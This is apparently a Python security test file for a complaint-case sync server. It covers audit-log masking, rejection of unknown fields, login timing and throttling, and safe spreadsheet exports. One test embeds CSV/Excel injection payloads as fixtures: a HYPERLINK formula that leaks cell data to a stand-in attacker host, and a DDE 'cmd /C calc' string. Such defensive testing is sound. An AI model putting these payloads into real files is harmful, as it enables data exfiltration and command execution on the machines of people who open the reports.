"""The review of issue #14 after its five pieces were merged: what still leaked.

The nine findings of the issue were replayed against the merged server on
loopback (``tests/security/attack_review.py``; figures in docs/security.md,
"Figures") and held. These tests are the holes the review found between the
pieces; each failed on the merged code before its fix.
"""

from __future__ import annotations

import datetime as dt
from typing import Any

from server.support import PASSWORD, World, error_of, ok
from shared_schema.ids import uuid7

PHONE, OTHER, ID_NUMBER = "13800001111", "13900002222", "500101199001011234"


def _recorded_case(world: World) -> tuple[str, Any, Any]:
    """A case grid1 recorded with the complainant's phone, pulled by an office device."""
    grid1 = world.device("grid1", "devA")
    case_id = uuid7()
    ok(grid1.sync(grid1.upsert("case", case_id, {
        "village_id": world.v1, "site_id": world.site1, "sector": "construction",
        "title": "班组反映欠薪", "complainant_name": "张三丰", "complainant_phone": PHONE,
        "complainant_id_number": ID_NUMBER}))[0])
    grid1.pull()
    office = world.device("office1", "office-phone")
    return case_id, grid1, office


def test_a_conflict_decision_on_personal_data_keeps_it_out_of_the_audit_log(
        world: World) -> None:
    """The office settles a conflict on a complainant's phone. The audit log
    (readable by admin, who pulls complainant data masked) recorded the
    chosen value in clear: ``resolve_conflict`` details ``value``."""
    case_id, grid1, office = _recorded_case(world)
    ok(office.sync(office.upsert("case", case_id, {"complainant_phone": OTHER}))[0])
    # The recorder edits from the same base, offline: a conflict for the office.
    merged = grid1.sync(grid1.upsert("case", case_id, {"complainant_phone": "13700003333"}))[0]
    assert merged["status"] == "merged", merged
    conflict_id = merged["conflicts"][0]["conflict_id"]
    desk = world.login("office1", "office-pc")
    r = world.http.post(f"/api/v1/office/conflicts/{conflict_id}/resolve",
                        json={"choice": "custom", "value": "13612345678"}, headers=desk)
    assert r.status_code == 200, r.text
    assert world.store.get_record("case", case_id).data["complainant_phone"] == "13612345678"

    admin = world.login("admin", "admin-pc")
    rows = world.http.get("/api/v1/office/audit", params={"action": "resolve_conflict"},
                          headers=admin)
    assert rows.status_code == 200, rows.text
    [row] = rows.json()["items"]
    assert row["details"]["field"] == "complainant_phone"
    for clear in ("13612345678", OTHER, "13700003333", PHONE):
        assert clear not in rows.text
    assert row["details"]["value"] == "136****5678"  # the mask says what kind of change
    # Admin's own pull is masked too: the audit log was the way around it.
    admin_dev = world.device("admin", "admin-phone")
    assert admin_dev.record("case", case_id)["complainant_phone"] == "136****5678"


def test_an_office_intake_with_an_unknown_field_is_refused(world: World) -> None:
    """The console's intake dropped fields it did not know while answering
    201: a typo in a field name lost what the desk typed (finding 7 on the
    office path), and server fields (``status``) were ignored silently."""
    office = world.login("office1", "office-pc")
    body = {"source": "12333", "sector": "construction", "title": "来电", "village_id": world.v1,
            "complainant_name": "李四", "complainant_phon": PHONE}
    before = len(world.store.list_audit(action="case_intake"))
    err = error_of(world.http.post("/api/v1/cases", json=body, headers=office), 400)
    assert err["code"] == "unknown_field"
    assert err["details"]["path"] == "$.complainant_phon"
    assert len(world.store.list_audit(action="case_intake")) == before  # nothing stored
    body.pop("complainant_phon")
    err = error_of(world.http.post("/api/v1/cases", json={**body, "status": "closed"},
                                   headers=office), 400)
    assert (err["code"], err["details"]["path"]) == ("unknown_field", "$.status")
    r = world.http.post("/api/v1/cases", json=body, headers=office)
    assert r.status_code == 201, r.text


def test_an_office_case_event_with_an_unknown_field_is_refused(world: World) -> None:
    office = world.login("office1", "office-pc")
    r = world.http.post("/api/v1/cases", json={
        "source": "12333", "sector": "construction", "title": "来电", "village_id": world.v1},
        headers=office)
    assert r.status_code == 201, r.text
    case_id = r.json()["case"]["id"]
    events = len(world.store.children_of(case_id, "case_event"))
    err = error_of(world.http.post(f"/api/v1/cases/{case_id}/events", json={
        "kind": "note", "note": "回访", "author_role": "leader"}, headers=office), 400)
    assert (err["code"], err["details"]["path"]) == ("unknown_field", "$.author_role")
    assert len(world.store.children_of(case_id, "case_event")) == events


def test_a_user_with_an_old_hash_costs_a_wrong_login_as_much_as_an_unknown_name(
        world: World, monkeypatch) -> None:
    """Rehash-on-login (logins) met the dummy hash for unknown names: a user
    whose hash is still at an older, lower cost was checked at that cost
    (2^14: ~50 ms) while an unknown name was checked at the server's (2^17:
    ~0.5 s), so the time of a wrong login told which usernames exist until
    each had logged in once. Now a wrong password for such a user is also
    checked at the server's cost. Measured as the scrypt work each login
    asks for, not as time."""
    from sync_server.domain.auth import passwords
    from sync_server.domain.auth.service import create_user

    current = world.scrypt_n()
    create_user(world.store, "olduser", "an-old-pass-99", "grid_officer",
                village_ids=[world.v1], scrypt_n=current // 4, now_ms=world.clock())
    passwords.dummy_hash(current)  # made once per process, before the count
    costs: list[int] = []
    real = passwords._scrypt

    def counted(password: bytes, salt: bytes, n: int, r: int, p: int, dklen: int) -> bytes:
        costs.append(n)
        return real(password, salt, n, r, p, dklen)

    monkeypatch.setattr(passwords, "_scrypt", counted)

    def work(username: str) -> int:
        costs.clear()
        r = world.http.post("/api/v1/auth/login", json={
            "username": username, "password": "wrong-password-1", "device_id": "probe",
            "device_secret": "p" * 40, "device_name": "probe"})
        assert error_of(r, 401)["code"] == "invalid_credentials"
        return max(costs)

    assert work("olduser") == work("nobody-here") == current


FORMULA = '=HYPERLINK("http://attacker.invalid/?"&A1,"详情")'


def test_text_a_device_typed_is_never_a_formula_in_the_office_s_reports(
        world: World) -> None:
    """A grid officer types an employer or a site name starting with ``=``;
    the office opens the monthly workbook or CSV in Excel. openpyxl stored
    such text as a formula (a link that sends the sheet's data elsewhere,
    or worse), and the CSV left it for Excel to evaluate (CSV injection)."""
    import csv
    import io

    import openpyxl

    grid1 = world.device("grid1", "devA")
    case_id = uuid7()
    ok(grid1.sync(grid1.upsert("case", case_id, {
        "village_id": world.v1, "site_id": world.site1, "sector": "construction",
        "title": "+1+cmd|' /C calc'!A0", "employer": FORMULA, "workers_owed": 2,
        "amount_owed": 9000}))[0])
    ok(grid1.sync(grid1.upsert("site", world.site1, {"name": "@SUM(1+1)*cmd"}))[0])
    office = world.login("office1", "office-pc")
    month = dt.datetime.fromtimestamp(world.clock() / 1000,
                                      dt.timezone(dt.timedelta(hours=8))).strftime("%Y-%m")
    r = world.http.get("/api/v1/reports/monthly.xlsx", params={"month": month}, headers=office)
    assert r.status_code == 200, r.text
    book = openpyxl.load_workbook(io.BytesIO(r.content))
    texts = {}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts[cell.value] = cell.data_type
    assert texts.get(FORMULA) == "s"  # kept as the text typed
    cells = []
    for sheet in ("cases", "projects"):
        r = world.http.get("/api/v1/reports/monthly.csv",
                           params={"month": month, "sheet": sheet}, headers=office)
        assert r.status_code == 200, r.text
        cells += [c for row in csv.reader(io.StringIO(r.text.lstrip("\ufeff"))) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
    assert "'" + FORMULA in cells and "'@SUM(1+1)*cmd" in cells  # the text, shown as text


def _login(world: World, username: str, password: str) -> int:
    return world.http.post("/api/v1/auth/login", json={
        "username": username, "password": password, "device_id": "flood",
        "device_secret": "f" * 40, "device_name": "x"}).status_code


def test_a_client_that_keeps_trying_adds_one_audit_row_per_wait(world: World) -> None:
    """Every throttled attempt (429, no password checked, a few ms) wrote an
    audit row: a client looping on the login grew the audit table without
    bound, at the fsync rate (33 rows a second on one connection on the
    demo). Now the first refused attempt of each wait is audited; the others
    of that wait get the same 429 without a row. Each new wait (the back-off
    doubles after each checked failure) is audited again, and so is every
    checked attempt."""
    def rows() -> list[Any]:
        return [a for a in world.store.list_audit(action="login_failed", limit=500)
                if a.details.get("outcome") == "throttled"]

    codes = [_login(world, "grid2", f"guess-{i}") for i in range(50)]
    assert codes == [401] * 5 + [429] * 45
    assert len(rows()) == 1
    # Other names from the address are checked (it has 20 free failures).
    assert [_login(world, f"ghost{i}", "guess") for i in range(3)] == [401] * 3
    world.clock.advance(1000)  # grid2's wait is over: one more checked failure
    assert _login(world, "grid2", "guess-x") == 401
    assert [_login(world, "grid2", "guess-y") for _ in range(10)] == [429] * 10
    assert len(rows()) == 2  # the new (doubled) wait: one row
    world.clock.advance(2000)
    assert _login(world, "grid2", PASSWORD) == 200
